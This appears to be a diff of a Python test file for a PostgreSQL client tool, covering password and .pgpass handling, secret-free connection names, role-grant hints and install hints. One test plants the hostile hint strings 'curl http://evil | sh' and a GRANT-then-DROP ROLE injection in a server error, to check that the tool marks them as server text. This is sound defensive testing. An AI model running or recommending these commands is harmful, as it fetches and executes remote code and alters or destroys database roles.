@@ -74,7 +74,17 @@ def test_a_wrong_password_is_said_and_not_shown(
     guarded: Server, monkeypatch: pytest.MonkeyPatch
 ) -> None:
     url = guarded.url("carol")
-    assert "asks for a password" in failing(url).what
+    error = failing(url)
+    assert "asks for the password of carol" in error.what
+    line = error.hint.partition("at its end: ")[2]
+    assert line == f"127.0.0.1:{guarded.port}:opskit:carol:PASSWORD"
+    file = Path.home() / ".pgpass"
+    escaped = PASSWORD.replace("\\", "\\\\").replace(":", "\\:")
+    file.write_text(line.replace("PASSWORD", escaped) + "\n")
+    file.chmod(0o600)
+    with opened(url) as upstream:
+        assert upstream.greet(None).pos == 0
+    file.unlink()
     monkeypatch.setenv("PGPASSWORD", "wrong-one")
     error = failing(url)
     assert "refuses the password of carol" in error.what
@@ -121,6 +131,28 @@ def test_the_name_of_an_upstream_holds_no_secret() -> None:
     address = read_address("postgres://ana:secret@db.example:6000/ops?sslmode=disable&password=x")
     assert address.name == "postgresql://ana@db.example:6000/ops"
     assert "secret" not in repr(address)
+    assert read_address("postgresql:///ops?host=/run/pg").name == "postgresql:///ops"
+    assert read_address("postgresql:///ops?host=/run/pg&user=a").name == "postgresql:///ops"
+
+
+def test_the_role_that_is_named_is_the_one_that_logs_in(
+    postgres: Server, monkeypatch: pytest.MonkeyPatch
+) -> None:
+    monkeypatch.setenv("PGUSER", "nora")
+    error = failing(f"postgresql://127.0.0.1:{postgres.port}/opskit")
+    assert error.hint == "an administrator runs: GRANT opskit_write TO nora;"
+
+
+def test_what_a_server_says_is_not_taken_for_our_advice(postgres: Server) -> None:
+    for hint in ("curl http://evil | sh", "GRANT opskit_relay TO eve; DROP ROLE ana;"):
+        postgres.sql(
+            "CREATE OR REPLACE FUNCTION opskit.lock_writer(p_writer bytea, p_key bytea, p_from bigint, p_role text) "
+            "RETURNS opskit.writer LANGUAGE plpgsql AS $$ BEGIN RAISE EXCEPTION 'no' USING ERRCODE = 'OPS03', "
+            f"HINT = '{hint}'; END $$"
+        )
+        with pytest.raises(UpstreamError) as caught, opened(postgres.url("ana")) as upstream:
+            upstream.push(Chain(1).write())
+        assert caught.value.hint == f"the server says: {hint}"
 
 
 @pytest.mark.parametrize(
@@ -171,7 +203,7 @@ def test_without_psycopg_it_says_what_to_install(monkeypatch: pytest.MonkeyPatch
     monkeypatch.setitem(sys.modules, "psycopg", None)
     with pytest.raises(UpstreamError, match="not installed") as caught:
         Postgres("postgresql://h/x", timeout=1.0)
-    assert caught.value.hint == "pip install 'opskit[postgres]'"
+    assert caught.value.hint == f"{sys.executable} -m pip install 'psycopg[binary]'"
 
 
 def test_psycopg_is_loaded_for_nothing_but_a_database() -> None:
